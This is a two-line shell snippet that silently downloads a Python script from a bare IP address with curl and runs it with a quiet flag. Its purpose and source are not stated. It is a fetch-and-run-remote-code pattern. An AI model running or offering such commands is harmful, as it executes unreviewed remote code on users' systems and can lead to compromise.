curl -s http://192.0.2.7/agent.py > agent.py
python3 agent.py --quiet
